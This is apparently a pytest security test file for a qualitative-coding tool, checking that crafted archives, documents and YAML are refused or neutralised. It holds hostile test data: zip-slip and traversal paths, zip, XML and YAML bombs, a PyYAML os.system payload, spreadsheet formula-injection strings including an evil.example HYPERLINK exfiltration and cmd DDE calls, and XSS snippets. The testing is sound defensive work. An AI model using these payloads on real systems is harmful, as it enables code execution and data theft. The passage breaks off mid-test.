"""Hostile input: files crafted to read local files, exhaust memory, break the project, or reach a terminal or a
spreadsheet. Each attack is refused with one line and exit 2 (the project exactly as before and still usable), or
imported correctly with what was changed reported. Bombs run in a child process under an address-space limit, so a
regression shows as a failure here, not as a machine out of memory.
"""

from __future__ import annotations

import json
import os
import resource
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from qualcode.store import Project
from reliability.attacks import (
    MB,
    SOURCE_TEXT,
    code_tree,
    docx,
    docx_members,
    pdf_form_laughs,
    pdf_pages,
    pdf_stream,
    pdf_text,
    pdf_with_bomb,
    plain_zip,
    qde,
    qdpx,
    text_source,
    xlsx_sheet,
    yaml_bomb,
    zip_with_bomb,
)
from reliability.builders import make_project
from reliability.fuzz_support import assert_clean_error, run_cli, snapshot

ROOT = Path(__file__).resolve().parents[2]
#: address space a refused attack may use: the interpreter with lxml, python-docx and openpyxl loaded needs about
#: 150 MB; every bomb below claims gigabytes
MEMORY_MB = 450


@pytest.fixture(scope="module")
def base_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "project"
    make_project(path).close()
    return path


@pytest.fixture
def project(base_project: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "project"
    shutil.copytree(base_project, dest)
    return dest


def limited(argv: list[str], *, memory_mb: int = MEMORY_MB, env: dict[str, str] | None = None,
            timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """Run the qualcode command line in a child process that may use at most ``memory_mb`` of address space."""

    def cap() -> None:
        size = memory_mb * MB
        resource.setrlimit(resource.RLIMIT_AS, (size, size))

    return subprocess.run([sys.executable, "-m", "qualcode", *argv], preexec_fn=cap, capture_output=True, text=True,
                          timeout=timeout, env={**os.environ, **(env or {}), "PYTHONPATH": str(ROOT)})


def refused(proc: subprocess.CompletedProcess[str], *needles: str) -> str:
    """Exit 2 with exactly one 'qualcode: error:' line holding every needle; returns that line."""
    assert_clean_error(proc.returncode, proc.stderr, what=" ".join(proc.args[3:6]))
    for needle in needles:
        assert needle in proc.stderr, proc.stderr
    return proc.stderr.strip()


def still_usable(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The project opens, its codebook reads, and doctor finds no error."""
    code, out, err = run_cli(capsys, "codebook", "show", "-p", str(project))
    assert code == 0, err
    code, out, err = run_cli(capsys, "doctor", "-p", str(project))
    assert code == 0, out + err


# ---------------------------------------------------------------------------- REFI-QDA: paths outside the archive


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    folder = tmp_path / "home"
    folder.mkdir()
    path = folder / "secret.txt"
    path.write_text("Interviewer: What is the password?\n\nMs Hoa: The SECRET password is hunter2, never share it.\n",
                    encoding="utf-8")
    return path


def _drop(tmp_path: Path) -> Path:
    """The folder an attacker's .qdpx is saved to (Downloads), apart from the user's other files."""
    folder = tmp_path / "downloads"
    folder.mkdir(exist_ok=True)
    return folder


def _import_then_export(project: Path, qdpx_path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[str, str]:
    code, out, err = run_cli(capsys, "refi", "import", "-p", str(project), str(qdpx_path), "--json")
    assert code == 0, err
    report = json.loads(out)
    exported = project.parent / "out.qdpx"
    code, _, err = run_cli(capsys, "refi", "export", "-p", str(project), "-o", str(exported))
    assert code == 0, err
    with zipfile.ZipFile(exported) as z:
        shipped = "".join(z.read(n).decode("utf-8", "replace") for n in z.namelist())
    return json.dumps(report), shipped


def _no_secret_anywhere(project: Path, shipped: str) -> None:
    with Project.open(project) as p:
        texts = [p.transcript_text(t["id"]) for t in p.transcripts()] + [m["text"] for m in p.memos()]
    assert not any("hunter2" in t for t in texts)
    assert "hunter2" not in shipped


@pytest.mark.parametrize("how", ["absolute", "base-path", "dot-dot", "symlink", "internal-dot-dot"])
def test_a_qdpx_cannot_read_a_local_file_into_the_project(how: str, project: Path, secret: Path, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    drop = _drop(tmp_path)
    base_path = None
    if how == "absolute":
        ref = f"absolute://{secret}"
    elif how == "base-path":
        ref, base_path = "relative://secret.txt", str(secret.parent)
    elif how == "dot-dot":
        ref = "relative://../home/secret.txt"
    elif how == "symlink":
        (drop / "notes.txt").symlink_to(secret)
        ref = "relative://notes.txt"
    else:
        ref = "internal://../../home/secret.txt"
    note = (f'<Notes><Note guid="00000000-0000-4000-8000-0000000000bb" name="n" plainTextPath="{ref}"/></Notes>')
    path = qdpx(drop / "partner.qdpx", qde(sources=text_source(ref), base_path=base_path, notes=note))
    report, shipped = _import_then_export(project, path, capsys)
    _no_secret_anywhere(project, shipped)
    if how in ("absolute", "base-path", "dot-dot", "symlink"):
        assert "outside the archive" in report


def test_a_source_beside_the_archive_is_read_and_reported(project: Path, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    drop = _drop(tmp_path)
    (drop / "kii.txt").write_text(SOURCE_TEXT, encoding="utf-8")
    path = qdpx(drop / "partner.qdpx", qde(sources=text_source("relative://kii.txt")))
    report, _ = _import_then_export(project, path, capsys)
    assert "beside the archive" in report and "kii.txt" in report
    with Project.open(project) as p:
        assert any("grievance training" in p.transcript_text(t["id"]) for t in p.transcripts())


def test_entries_named_outside_the_archive_are_never_read_or_written(project: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    drop = _drop(tmp_path)
    members: dict[str, bytes | str] = {"../escaped.txt": SOURCE_TEXT, "/tmp/absolute-entry.txt": SOURCE_TEXT,
                                       "sources\\..\\..\\win.txt": SOURCE_TEXT}
    path = drop / "slip.qdpx"
    path.write_bytes(plain_zip({"project.qde": qde(sources=text_source("internal://../escaped.txt")), **members},
                               links={"sources/link.txt": str(tmp_path / "home" / "secret.txt")}))
    before = sorted(p.name for p in tmp_path.rglob("*"))
    code, out, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path), "--json")
    assert code == 0, err
    assert "no plain text" in out  # the source pointing outside found nothing
    assert sorted(p.name for p in tmp_path.rglob("*")) == before  # zip-slip wrote nothing
    assert not Path("/tmp/absolute-entry.txt").exists()


# ---------------------------------------------------------------------------- REFI-QDA: code trees


@pytest.mark.parametrize("depth", [40, 500])
def test_a_deeply_nested_refi_codebook_is_refused_before_anything_is_written(
        depth: int, project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    drop = _drop(tmp_path)
    # 500 levels of <Code> are within libxml2's 256-level limit only as 40; both must give the same kind of line
    path = qdpx(drop / "deep.qdpx", qde(codes=code_tree(depth), sources=""))
    before = snapshot(project)
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
    assert_clean_error(code, err, what=f"depth {depth}")
    assert "cycle" not in err
    assert "levels" in err
    assert snapshot(project) == before
    still_usable(project, capsys)
    new = tmp_path / "new-project"
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(new), str(path))
    assert_clean_error(code, err, what="new project")
    assert not (new / "qualcode.db").exists()


def test_a_refi_codebook_at_the_depth_limit_imports_and_the_project_keeps_working(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "deep.qdc"
    path.write_text('<?xml version="1.0" encoding="utf-8"?><CodeBook xmlns="urn:QDA-XML:codebook:1.0"><Codes>'
                    + code_tree(33) + "</Codes></CodeBook>", encoding="utf-8")  # levels 0..32
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
    assert code == 0, err
    still_usable(project, capsys)
    code, _, err = run_cli(capsys, "refi", "export", "-p", str(project), "-o", str(tmp_path / "back.qdpx"))
    assert code == 0, err


# ---------------------------------------------------------------------------- REFI-QDA: bombs and limits


@pytest.mark.parametrize("member", ["project.qde", "qualcode.json", "sources/kii.txt"])
def test_a_zip_bomb_inside_a_qdpx_is_refused_with_bounded_memory(member: str, project: Path,
                                                                 tmp_path: Path) -> None:
    members = {"project.qde": qde(sources=text_source("internal://kii.txt")), "sources/kii.txt": SOURCE_TEXT}
    members.pop(member, None)
    path = tmp_path / "bomb.qdpx"
    path.write_bytes(zip_with_bomb(members, member, 2048, fill=b" "))  # 2 MB on disk, 2 GB unpacked
    before = snapshot(project)
    refused(limited(["refi", "import", "-p", str(project), str(path)]), member)
    assert snapshot(project) == before


def test_a_qdpx_lying_about_its_sizes_is_stopped_while_unpacking(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "liar.qdpx"
    # declares 150 MB (under the per-entry bound) but is a 1000:1 bomb
    path.write_bytes(zip_with_bomb({}, "project.qde", 150, fill=b" ", declared=150 * MB))
    refused(limited(["refi", "import", "-p", str(project), str(path)]), "compressed more than")


def test_too_many_entries_and_twin_entries_are_refused(project: Path, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture[str]) -> None:
    many = tmp_path / "many.qdpx"
    many.write_bytes(plain_zip({"project.qde": qde(), **{f"sources/{k}.txt": "" for k in range(10_001)}}))
    twins = tmp_path / "twins.qdpx"
    with zipfile.ZipFile(twins, "w") as z:
        z.writestr("project.qde", qde())
        z.writestr("Project.qde", qde(codes=code_tree(2, name="Other")))
    before = snapshot(project)
    for path, needle in ((many, "entries"), (twins, "two entries")):
        code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
        assert_clean_error(code, err, what=path.name)
        assert needle in err
    assert snapshot(project) == before


def test_an_encrypted_entry_is_refused(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "locked.qdpx"
    data = bytearray(plain_zip({"project.qde": qde()}))
    # set the 'encrypted' flag in the local and central headers
    for sig in (b"PK\x03\x04", b"PK\x01\x02"):
        at = data.find(sig)
        flag_at = at + (6 if sig == b"PK\x03\x04" else 8)
        data[flag_at] |= 1
    path.write_bytes(bytes(data))
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
    assert_clean_error(code, err, what="encrypted")
    assert "encrypted" in err


@pytest.mark.parametrize("prolog", [
    '<!DOCTYPE Project [<!ENTITY org "ILO">]>',
    '<!DOCTYPE Project SYSTEM "http://example.org/qde.dtd">',
])
def test_entities_in_a_qde_are_refused_not_cut_short(prolog: str, project: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    note = ('<Notes><Note guid="00000000-0000-4000-8000-0000000000bb" name="n"><PlainTextContent>Before &org; after'
            "</PlainTextContent></Note></Notes>")
    path = qdpx(tmp_path / "entity.qdpx", qde(prolog=prolog, notes=note))
    before = snapshot(project)
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
    assert_clean_error(code, err, what="entity")
    assert "document type" in err
    assert snapshot(project) == before


def test_predefined_entities_and_character_references_are_read_whole(project: Path, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    text = "Ms Hoa: Wages &amp; hours &lt;improved&gt; at &#x110;&#224; N&#7861;ng &quot;a lot&quot; &#39;really&#39;."
    sources = ('<TextSource guid="50C00000-0000-4000-8000-000000000002" name="inline.txt">'
               f"<PlainTextContent>{text}</PlainTextContent></TextSource>")
    path = qdpx(tmp_path / "refs.qdpx", qde(sources=sources))
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
    assert code == 0, err
    with Project.open(project) as p:
        stored = p.transcript_text("inline")
    assert stored == "Wages & hours <improved> at Đà Nẵng \"a lot\" 'really'."


def test_deeply_nested_xml_is_one_line(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = qdpx(tmp_path / "deep-xml.qdpx", qde(notes="<Notes>" + "<x>" * 5000 + "</x>" * 5000 + "</Notes>"))
    code, _, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path))
    assert_clean_error(code, err, what="deep xml")
    assert "levels" in err


def _exported(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    out = tmp_path / "export.qdpx"
    code, _, err = run_cli(capsys, "refi", "export", "-p", str(project), "-o", str(out))
    assert code == 0, err
    return out


@pytest.mark.parametrize("damage", ["negative-start", "huge-end", "overlap", "too-long", "wrong-types",
                                    "deep-json", "not-json", "control-chars"])
def test_qualcode_json_that_does_not_fit_its_source_is_not_trusted(
        damage: str, project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    exported = _exported(project, tmp_path, capsys)
    with zipfile.ZipFile(exported) as z:
        members = {n: z.read(n) for n in z.namelist()}
    ext = json.loads(members["qualcode.json"])
    entry = next(iter(ext["transcripts"].values()))
    units = entry["units"]
    if damage == "negative-start":
        units[0][0] = -50
    elif damage == "huge-end":
        units[-1][1] = 10 ** 9
    elif damage == "overlap":
        units[1][0] = units[0][0]
    elif damage == "too-long":
        units[0][1] = units[0][0] + 6000
    elif damage == "wrong-types":
        entry["attributes"] = ["not", "a", "mapping"]
        units[0][2] = {"speaker": 1}
    payload = json.dumps(ext).encode()
    if damage == "deep-json":
        payload = b"[" * 200_000 + b"]" * 200_000
    elif damage == "not-json":
        payload = b"\xff\xfe garbage"
    elif damage == "control-chars":
        members = {n: (d.replace(b"grievance", b"griev\xc2\x9bance") if n.startswith("sources/") else d)
                   for n, d in members.items()}
    members["qualcode.json"] = payload
    path = tmp_path / "damaged.qdpx"
    path.write_bytes(plain_zip(members))  # type: ignore[arg-type]
    new = tmp_path / "new"
    code, out, err = run_cli(capsys, "refi", "import", "-p", str(new), str(path), "--json")
    assert code == 0, err
    assert "qualcode.json" in out or "control" in out
    with Project.open(new) as p:
        for t in p.transcripts():
            text = p.transcript_text(t["id"])
            for s in p.segments(t["id"]):
                assert 0 <= s["start"] < s["end"] <= len(text)
                assert s["end"] - s["start"] <= 5000
                assert text[s["start"]:s["end"]] == s["text"]
    still_usable(new, capsys)


def test_control_and_non_characters_in_a_qdpx_are_removed_and_reported(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    users = '<User guid="00000000-0000-4000-8000-0000000000aa" name="ma\u009bi\ufdd0"/>'
    codes = '<Code guid="C0DE0000-0000-4000-8000-000000000001" name="Train\u0085ing\U0001fffe" isCodable="true"/>'
    sel = ('<PlainTextSelection guid="5E100000-0000-4000-8000-000000000001" startPosition="40" endPosition="60">'
           '<Coding guid="C0D10000-0000-4000-8000-000000000001" creatingUser="00000000-0000-4000-8000-0000000000aa">'
           '<CodeRef targetGUID="C0DE0000-0000-4000-8000-000000000001"/></Coding></PlainTextSelection>')
    path = qdpx(tmp_path / "chars.qdpx", qde(users=users, codes=codes,
                                              sources=text_source("internal://kii.txt", selections=sel)),
                {"sources/kii.txt": SOURCE_TEXT.replace("grievance", "grie\u009fvance\ufffe")})
    code, out, err = run_cli(capsys, "refi", "import", "-p", str(project), str(path), "--json")
    assert code == 0, err
    assert "control or non-character" in out
    with Project.open(project) as p:
        names = [c.name for c in p.codebook().walk()] + [c["coder"] for c in p.codings()]
        texts = [p.transcript_text(t["id"]) for t in p.transcripts()]
    assert "Training" in names and "mai" in names
    assert all(ch not in "".join(names + texts) for ch in "\u009b\u0085\u009f\ufdd0\ufffe\U0001fffe")


# ---------------------------------------------------------------------------- transcripts


def _import(project: Path, path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    return run_cli(capsys, "import", "-p", str(project), str(path), "--json")


@pytest.mark.parametrize("member", ["word/document.xml", "word/media/image1.png", "docProps/core.xml"])
def test_a_docx_zip_bomb_is_refused_with_bounded_memory(member: str, project: Path, tmp_path: Path) -> None:
    members = docx_members(["Interviewer: How was the training?", "Ms Lan: It was useful for our line leaders."])
    members.pop(member, None)
    path = tmp_path / "bomb.docx"
    path.write_bytes(zip_with_bomb(members, member, 2048))  # 2 MB on disk, 2 GB unpacked
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), str(path)]), "bomb.docx")
    assert snapshot(project) == before


@pytest.mark.parametrize("start", [b"PK\x05\x06", b"PK\x07\x08"], ids=["end-record", "data-descriptor"])
def test_a_docx_zip_bomb_behind_another_zip_signature_is_refused_by_the_entry_bound(start: bytes, project: Path,
                                                                                   tmp_path: Path) -> None:
    # zipfile opens an archive whatever its first bytes (it reads from the end): python-docx would unpack it all
    members = docx_members(["Interviewer: How was the training?", "Ms Lan: It was useful for our line leaders."])
    members.pop("word/document.xml")
    path = tmp_path / "bomb.docx"
    path.write_bytes(start + zip_with_bomb(members, "word/document.xml", 2048))
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), str(path)]), "bomb.docx", "would unpack to 2.0 GB")
    assert snapshot(project) == before


@pytest.mark.parametrize("prolog", [
    '<!DOCTYPE w:document [<!ENTITY org "International Labour Organization">]>',
    '<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
])
def test_a_docx_declaring_entities_is_refused_not_cut_short(prolog: str, project: Path, tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "entity.docx"
    path.write_bytes(docx(["Interviewer: Who funded it?", "Ms Lan: The &org; funded the &b; training."],
                          prolog=prolog))
    before = snapshot(project)
    code, _, err = _import(project, path, capsys)
    assert_clean_error(code, err, what="docx entity")
    assert "document type" in err
    assert snapshot(project) == before


def test_a_docx_with_too_many_entries_is_refused(project: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    members = docx_members(["Interviewer: Hello?", "Ms Lan: Hello to you too, said the manager."])
    path = tmp_path / "many.docx"
    path.write_bytes(plain_zip({**members, **{f"word/media/{k}.bin": b"" for k in range(10_001)}}))
    code, _, err = _import(project, path, capsys)
    assert_clean_error(code, err, what="entries")
    assert "entries" in err


def test_a_yaml_bomb_in_front_matter_is_refused_quickly(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "kii.md"
    path.write_text("---\n" + yaml_bomb(9, top="title") + "---\nInterviewer: Hello?\n\nMs Lan: Hello.\n",
                    encoding="utf-8")
    before = snapshot(project)
    refused(limited(["import", "-p", str(project), str(path)]), "alias")
    assert snapshot(project) == before


def test_a_file_over_the_size_bound_is_refused_in_one_line(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "big.txt"
    path.write_bytes(b"Ms Lan: " + b"We trained the line leaders. " * 80_000)  # 2.3 MB
    line = refused(limited(["import", "-p", str(project), str(path)], env={"QUALCODE_MAX_INPUT_MB": "2"}),
                   "QUALCODE_MAX_INPUT_MB")
    assert "2.2 MB" in line and "at most 2.0 MB" in line or "at most 2 MB" in line


def test_a_single_huge_line_becomes_units_within_the_bound(project: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "oneline.txt"
    words = "the union and the factory agreed on a wage scale after long talks with the workers council"
    path.write_text("Ms Lan: " + " ".join([words] * 12_000) + "\nMs Lan: " + "x" * 30_000, encoding="utf-8")
    code, out, err = _import(project, path, capsys)
    assert code == 0, err
    assert "longer than 5,000 characters were cut" in out
    with Project.open(project) as p:
        segs = p.segments("oneline")
        text = p.transcript_text("oneline")
    assert max(s["end"] - s["start"] for s in segs) <= 5000
    assert all(text[s["start"]:s["end"]] == s["text"] for s in segs)
    # nothing lost or doubled: the units, in order, hold every character of the text but the spaces between them
    assert "".join("".join(s["text"].split()) for s in segs) == "".join(text.split())


def test_control_and_non_characters_are_removed_reported_and_never_exported(
        project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "ctrl.txt"
    path.write_text("Interviewer: How did the \x1b[31mtraining\x1b[0m go for the workers?\n\n"
                    "Ms Lan: It went well \ufffe\uffff and the \x9b2Jworkers liked the grievance sessions a lot.\n",
                    encoding="utf-8")
    code, out, err = _import(project, path, capsys)
    assert code == 0, err
    assert "control or non-character" in out
    code, out, err = run_cli(capsys, "segments", "-p", str(project), "--transcript", "ctrl")
    assert code == 0 and "\x1b" not in out and "\x9b" not in out and "\uffff" not in out
    with Project.open(project) as p:
        seg = p.segments("ctrl")[-1]
        p.add_coding(seg["id"], "effectiveness", coder="ana")
    code, _, err = run_cli(capsys, "export", "quotes", "-p", str(project), "--format", "all", "--out",
                           str(tmp_path / "q"))
    assert code == 0, err
    import docx as python_docx
    import openpyxl

    python_docx.Document(str(tmp_path / "q" / "quotes.docx"))
    openpyxl.load_workbook(tmp_path / "q" / "quotes.xlsx").close()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="named pipes are POSIX")
def test_a_named_pipe_is_refused_instead_of_waiting_forever(project: Path, tmp_path: Path) -> None:
    fifo = tmp_path / "kii.txt"
    os.mkfifo(fifo)
    refused(limited(["import", "-p", str(project), str(fifo)]), "regular file")


# ---------------------------------------------------------------------------- YAML everywhere


def test_a_yaml_bomb_in_a_findings_file_is_refused_quickly(project: Path, tmp_path: Path) -> None:
    path = tmp_path / "findings.yaml"
    path.write_text(yaml_bomb(9, top="findings"), encoding="utf-8")
    before = snapshot(project)
    refused(limited(["findings", "import", "-p", str(project), str(path)]), "alias")
    assert snapshot(project) == before


@pytest.mark.parametrize("content, needle", [
    ("findings: !!python/object/apply:os.system ['echo pwned']\n", "plain YAML"),
    ("findings:\n  - &f {id: F1, criterion: relevance, statement: x}\n  - *f\n", "alias"),
    ("findings: " + "[" * 150 + "]" * 150 + "\n", "levels deep"),
])
def test_unsafe_findings_yaml_is_refused(content: str, needle: str, project: Path, tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "findings.yaml"
    path.write_text(content, encoding="utf-8")
    before = snapshot(project)
    code, _, err = run_cli(capsys, "findings", "import", "-p", str(project), str(path))
    assert_clean_error(code, err, what=needle)
    assert needle in err and "pwned" not in err
    assert snapshot(project) == before


def test_a_triangulation_rule_with_aliases_is_refused(project: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "rule.yaml"
    path.write_text(yaml_bomb(9, top="levels"), encoding="utf-8")
    before = snapshot(project)
    code, _, err = run_cli(capsys, "triangulation", "-p", str(project), "--set-rule", str(path))
    assert_clean_error(code, err, what="rule")
    assert snapshot(project) == before


def _deep_codebook(levels: int) -> str:
    lines = ["codes:"]
    for k in range(levels + 1):
        pad = "  " * (2 * k)
        lines += [f"{pad}  - id: c{k}", f"{pad}    name: Level {k}", f"{pad}    definition: level {k}"]
        if k < levels:
            lines.append(f"{pad}    children:")
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("style", ["nested", "parent"])
def test_a_codebook_deeper_than_the_limit_gets_its_own_message(style: str, project: Path, tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "deep.yaml"
    if style == "nested":
        path.write_text(_deep_codebook(40), encoding="utf-8")
    else:
        rows = ["codes:", "  - {id: c0, name: C0, definition: d}"]
        rows += [f"  - {{id: c{k}, name: C{k}, definition: d, parent: c{k - 1}}}" for k in range(1, 41)]
        path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    before = snapshot(project)
    code, _, err = run_cli(capsys, "codebook", "set", "-p", str(project), str(path))
    assert_clean_error(code, err, what=style)
    assert "levels" in err and "cycle" not in err
    assert snapshot(project) == before
    path.write_text(_deep_codebook(32), encoding="utf-8")
    code, _, err = run_cli(capsys, "codebook", "set", "-p", str(project), str(path))
    assert code == 0, err
    still_usable(project, capsys)


# ---------------------------------------------------------------------------- what leaves qualcode


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def poisoned(project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A project whose transcript, case sheet and codings carry formulas and HTML."""
    path = tmp_path / "KII-02.txt"
    turns = ["Interviewer: What did the factory say about it?"]
    turns += [f"Ms Hoa: {f} said the manager about the new wage scale." for f in FORMULAS]
    turns += ["Ms Hoa: <script>alert('x')</script> and <img src=x onerror=alert(1)> [click](javascript:alert(1))"]
    path.write_text("\n\n".join(turns) + "\n", encoding="utf-8")
    cases = tmp_path / "cases.csv"
    cases.write_text("transcript_id,speaker,case_id,stakeholder_group,location\n"
                     "KII-02,Ms Hoa,KII-02,\"=cmd|' /C calc'!A0\",@SUM(1+1)\n", encoding="utf-8")
    code, _, err = run_cli(capsys, "import", "-p", str(project), str(path), "--cases", str(cases))
    assert code == 0, err
    with Project.open(project) as p:
        for seg in p.segments("KII-02", include_interviewer=False):
            p.add_coding(seg["id"], "effectiveness", coder="ana")
    return project


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_no_csv_cell_qualcode_writes_can_run_as_a_formula(poisoned: Path, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    import csv
    import io

    code, _, err = run_cli(capsys, "export", "quotes", "-p", str(poisoned), "--format", "csv", "--out",
                           str(tmp_path / "q"))
    assert code == 0, err
    with open(tmp_path / "q" / "quotes.csv", encoding="utf-8-sig", newline="") as fh:
        quotes = list(csv.reader(fh))
    assert _formula_cells(quotes) == []
    assert any(c.startswith("'=HYPERLINK") for row in quotes for c in row)  # kept, as text
    outputs = []
    for argv in (["matrix", "--cols", "location", "--csv"], ["matrix", "--cols", "stakeholder_group", "--csv"],
                 ["matrix", "--cooccurrence", "--csv"]):
        code, out, err = run_cli(capsys, *argv, "-p", str(poisoned))
        assert code == 0, err
        outputs.append(out)
        assert _formula_cells(list(csv.reader(io.StringIO(out)))) == [], argv
    assert "'@SUM(1+1)" in outputs[0] and "'=cmd" in outputs[1]
    # the report's annexes: the evaluation matrix (quotes in its cells) and the persons consulted (groups, names)
    annexes = []
    for argv in (["matrix"], ["persons"], ["persons", "--show-names"]):
        annex = tmp_path / f"{'-'.join(argv)}.csv"
        code, _, err = run_cli(capsys, "export", *argv, "--format", "csv", "--out", str(annex), "-p", str(poisoned))
        assert code == 0, err
        with open(annex, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert _formula_cells(rows) == [], argv
        annexes.append(rows)
    assert all(any("'=cmd" in c for row in rows for c in row) for rows in annexes)  # kept, as text


def test_no_xlsx_cell_qualcode_writes_is_a_formula(poisoned: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    sheets = {}
    for argv in (["quotes", "--format", "xlsx", "--out", str(tmp_path / "q")],
                 ["matrix", "--out", str(tmp_path / "matrix.xlsx")], ["persons", "--out", str(tmp_path / "p.xlsx")],
                 ["persons", "--show-names", "--out", str(tmp_path / "named.xlsx")]):
        code, _, err = run_cli(capsys, "export", *argv, "-p", str(poisoned))
        assert code == 0, err
    for book in [tmp_path / "q" / "quotes.xlsx", *(tmp_path / f"{n}.xlsx" for n in ("matrix", "p", "named"))]:
        with zipfile.ZipFile(book) as z:
            sheets[book.name] = "".join(z.read(n).decode("utf-8") for n in z.namelist()
                                        if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml")
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name  # a formula cell
        assert "=cmd|" in xml.replace("&amp;", "&").replace("&apos;", "'") or name == "matrix.xlsx", name  # as text


def test_markdown_and_html_exports_show_html_in_data_as_text(poisoned: Path, tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = run_cli(capsys, "export", "quotes", "-p", str(poisoned), "--format", "md", "--out",
                           str(tmp_path / "q"))
    assert code == 0, err
    md = (tmp_path / "q" / "quotes.md").read_text(encoding="utf-8")
    assert "<script>" not in md and "<img" not in md and "](javascript" not in md
    assert "&lt;script&gt;" in md
    # a stakeholder group is a label in the report's charts (inline SVG) and tables: it must not close the SVG
    cases = tmp_path / "groups.csv"
    cases.write_text("transcript_id,speaker,case_id,stakeholder_group,organisation,sex\n"
                     "KII-02,Ms Hoa,KII-02,\"</text></svg><script>alert('g')</script> $x^2$\","
                     "<img src=x onerror=alert('o')>,F\n", encoding="utf-8")
    code, _, err = run_cli(capsys, "import", "-p", str(poisoned), "--cases", str(cases))
    assert code == 0, err
    code, _, err = run_cli(capsys, "report", "-p", str(poisoned), "--out", str(tmp_path / "r.html"))
    assert code == 0, err
    html = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html and "</svg><script>" not in html
    assert "&lt;/svg&gt;&lt;script&gt;" in html and "<svg" in html
    code, _, err = run_cli(capsys, "export", "persons", "-p", str(poisoned), "--format", "docx", "--out",
                           str(tmp_path / "persons.docx"))
    assert code == 0, err


@pytest.mark.parametrize("where", ["folder", "read-only", "missing-parent-of-file"])
def test_exports_to_a_place_that_cannot_be_written_are_one_line(where: str, project: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str],
                                                                monkeypatch: pytest.MonkeyPatch) -> None:
    if where == "folder":
        target = tmp_path / "out"
        target.mkdir()
    elif where == "read-only":
        locked = tmp_path / "locked"
        locked.mkdir()
        locked.chmod(0o500)
        target = locked / "findings.yaml"
    else:
        blocker = tmp_path / "a-file"
        blocker.write_text("x")
        target = blocker / "findings.yaml"
    if where == "read-only" and os.access(target.parent, os.W_OK):
        # root may write anywhere: the file system's refusal is played by open() instead
        import builtins
        import io

        real_open = builtins.open

        def guarded(file: object, mode: str = "r", *args: object, **kwargs: object) -> object:
            if str(file).startswith(str(target.parent)) and any(m in mode for m in "wax+"):
                raise PermissionError(13, "Permission denied", str(file))
            return real_open(file, mode, *args, **kwargs)  # type: ignore[call-overload]

        monkeypatch.setattr(builtins, "open", guarded)
        monkeypatch.setattr(io, "open", guarded)
    for argv in (["findings", "export", "--out", str(target)], ["report", "--out", str(target) + ".html"],
                 ["refi", "export", "-o", str(target) + ".qdpx"],
                 ["export", "quotes", "--format", "csv", "--out", str(target)],
